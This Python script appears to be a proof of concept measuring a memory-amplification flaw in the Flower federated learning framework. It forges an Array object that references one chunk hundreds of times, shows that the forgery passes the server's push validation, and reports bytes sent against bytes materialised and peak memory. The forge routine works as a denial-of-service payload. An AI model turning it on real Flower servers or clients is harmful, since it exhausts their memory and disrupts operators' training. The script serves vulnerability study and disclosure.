"""Measure Flower's chunk inflation: a small forged Array object that materialises as a huge one.

Why: Flower 1.42 sends an ``Array`` as a small object listing chunk references
(``arraychunk_ids``) plus the chunks themselves. ``Array.inflate`` concatenates the listed
chunks and accepts the same reference any number of times, so a reply of a few KB plus one
chunk becomes hundreds of MiB inside Flower (the ServerApp's ``Grid.pull_messages``, or a
ClientApp pulling its message) before any app code can look at it. The forged object passes the
checks the SuperLink applies when a node pushes it (``validate_object_content``, object id =
sha256 of the content, one child per distinct id).

    python simulations/chunk_inflation.py                       # 1 MiB chunk x 256 references
    python simulations/chunk_inflation.py --chunk-mib 1 --repeat 1024

Prints one JSON object: bytes sent, bytes materialised, the ratio, and this process's peak
resident memory before and after (``VmHWM``).
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from typing import Sequence

import numpy as np


def _peak_rss() -> int:
    """This process's peak resident memory so far, bytes (Linux ``VmHWM``)."""
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    return 0


def forge(chunk_bytes: int, repeat: int) -> tuple[str, dict[str, bytes]]:
    """An honest one-chunk Array, then its object rewritten to list that chunk ``repeat`` times
    (shape made to match, so even ``Array.numpy()`` would accept the result)."""
    from flwr.app import Array
    from flwr.supercore.inflatable.inflatable_object import (add_header_to_object_body, get_object_body,
                                                               get_object_id)

    honest = Array(np.zeros(chunk_bytes // 4, dtype=np.float32))
    (chunk_id, chunk), = honest.slice_array()
    meta = json.loads(get_object_body(honest.deflate(), Array))
    meta["arraychunk_ids"] = [0] * repeat
    meta["shape"] = [chunk_bytes // 4 * repeat]
    content = add_header_to_object_body(json.dumps(meta).encode(), honest)  # same single child id
    return get_object_id(content), {get_object_id(content): content, chunk_id: chunk.deflate()}


def measure(chunk_mib: float, repeat: int) -> dict:
    """Forge, check it as the SuperLink would, inflate it as the Grid does; sizes and memory."""
    from flwr.supercore.inflatable.inflatable_utils import inflate_object_from_contents, validate_object_content

    array_id, contents = forge(int(chunk_mib * 2**20), repeat)
    for content in contents.values():
        validate_object_content(content)  # what the SuperLink checks on push: passes
    sent = sum(len(c) for c in contents.values())
    array_object = len(contents[array_id])
    before = _peak_rss()
    t = time.perf_counter()
    array = inflate_object_from_contents(array_id, dict(contents))
    seconds = time.perf_counter() - t
    after = _peak_rss()
    return {"flwr": __import__("flwr").__version__, "chunk-bytes": int(chunk_mib * 2**20), "repeat": repeat,
            "array-object-bytes": array_object, "bytes-sent": sent, "bytes-materialised": len(array.data),
            "ratio": round(len(array.data) / sent, 1), "inflate-seconds": round(seconds, 3),
            "peak-rss-before-bytes": before, "peak-rss-after-bytes": after,
            "peak-rss-growth-mib": round((after - before) / 2**20, 1)}


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--chunk-mib", type=float, default=1.0)
    p.add_argument("--repeat", type=int, default=256)
    args = p.parse_args(argv)
    print(json.dumps(measure(args.chunk_mib, args.repeat), indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
